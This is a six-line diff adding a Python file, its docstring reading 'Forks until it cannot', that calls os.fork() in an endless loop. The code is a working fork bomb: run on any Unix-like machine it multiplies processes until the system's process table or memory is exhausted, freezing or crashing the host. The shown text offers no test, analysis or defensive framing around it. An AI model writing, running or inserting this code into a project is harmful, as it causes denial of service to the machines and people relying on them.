@@ -1,0 +1,6 @@
+"""Forks until it cannot."""
+
+import os
+
+while True:
+    os.fork()
